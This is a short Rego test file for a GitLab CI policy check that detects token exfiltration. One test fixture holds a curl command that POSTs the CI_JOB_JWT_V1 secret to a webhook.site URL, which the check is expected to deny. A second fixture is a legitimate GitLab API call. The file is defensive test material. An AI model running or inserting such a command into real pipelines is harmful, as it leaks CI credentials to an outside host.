package vouch.checks.gitlab.token_exfiltration_test

import data.vouch.checks.gitlab.token_exfiltration as check
import data.vouch.test

test_deny_jwt_to_webhook if {
	count(check.deny) == 1 with input as test.gitlab({"jobs": {"deploy": {"script": "curl -X POST --data \"$CI_JOB_JWT_V1\" https://webhook.site/4cf17d70"}}})
}

test_allow_gitlab_api if {
	count(check.deny) == 0 with input as test.gitlab({"jobs": {"release": {"script": ["curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" \"${CI_API_V4_URL}/projects/${CI_PROJECT_ID}/releases\""]}}})
}
